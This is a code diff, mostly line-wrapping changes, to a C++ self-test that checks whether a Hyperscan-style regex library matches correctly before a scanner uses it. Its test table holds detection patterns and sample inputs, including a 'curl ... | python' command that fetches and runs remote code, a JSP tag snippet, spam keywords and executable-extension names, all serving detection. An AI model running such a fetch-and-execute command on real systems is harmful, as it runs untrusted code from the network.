@@ -27,9 +27,11 @@ constexpr unsigned kFlags = HS_FLAG_SINGLEMATCH | HS_FLAG_DOTALL;
 constexpr std::array kReproducers = {
     Reproducer{R"(<%[\s\S]+%>)", kFlags | HS_FLAG_CASELESS, "<%out.print();int a%>", true},
     Reproducer{R"(curl.*\|\s*python)", kFlags, "curl http://xxx:8000/ 2>&1 | python", true},
-    Reproducer{R"(curl.*\|\s*python)", kFlags | HS_FLAG_CASELESS, "CURL http://xxx:8000/ 2>&1 | python", true},
+    Reproducer{R"(curl.*\|\s*python)", kFlags | HS_FLAG_CASELESS,
+               "CURL http://xxx:8000/ 2>&1 | python", true},
     Reproducer{R"(<%[\s\S]+%>)", kFlags, "<%out.print();int a>", false},
-    Reproducer{R"(viagra)", kFlags | HS_FLAG_CASELESS, "Subject: buy ViAgRa now and save a lot of money", true},
+    Reproducer{R"(viagra)", kFlags | HS_FLAG_CASELESS,
+               "Subject: buy ViAgRa now and save a lot of money", true},
     Reproducer{R"(viagra)", kFlags, "Subject: buy ViAgRa now and save a lot of money", false},
     Reproducer{R"(^Subject:.*[0-9]{3,5}\s*\$)", kFlags, "Subject: win 2500  $", true},
     Reproducer{R"(\bfree\b)", kFlags, "not freedom but free, at last", true},
@@ -37,7 +39,6 @@ constexpr std::array kReproducers = {
     Reproducer{R"((foo|bar|[a-c]x)+\.(exe|scr|pif)$)", kFlags, "name=foobarax.scr", true},
     Reproducer{R"([\x80-\xff]{4})", kFlags, "caf\xc3\xa9 \xe2\x82\xac\xc3\xa9", true},
 };
-
 
 void run_set(const std::vector<const Reproducer*>& set, SelfTest& result) {
   std::vector<const char*> patterns;
@@ -50,9 +51,10 @@ void run_set(const std::vector<const Reproducer*>& set, SelfTest& result) {
   }
   hs_database_t* database = nullptr;
   hs_compile_error_t* error = nullptr;
-  if (hs_compile_multi(patterns.data(), flags.data(), ids.data(), static_cast<unsigned>(ids.size()), HS_MODE_BLOCK,
-                       nullptr, &database, &error) != HS_SUCCESS) {
-    result.missed.push_back(fmt::format("does not compile: {}", error != nullptr ? error->message : "?"));
+  if (hs_compile_multi(patterns.data(), flags.data(), ids.data(), static_cast<unsigned>(ids.size()),
+                       HS_MODE_BLOCK, nullptr, &database, &error) != HS_SUCCESS) {
+    result.missed.push_back(
+        fmt::format("does not compile: {}", error != nullptr ? error->message : "?"));
     hs_free_compile_error(error);
     return;
   }
@@ -85,7 +87,8 @@ SelfTest run_selftest() {
   result.ok = result.missed.empty();
   if (!result.ok) {
     result.problem = fmt::format(
-        "libhs {} gives wrong answers ({} of its self-tests fail, the first: {}): it is not used, patterns are tried one "
+        "libhs {} gives wrong answers ({} of its self-tests fail, the first: {}): it is not used, "
+        "patterns are tried one "
         "by one; install libhyperscan5 instead of libvectorscan5",
         result.library, result.missed.size(), result.missed.front());
   }
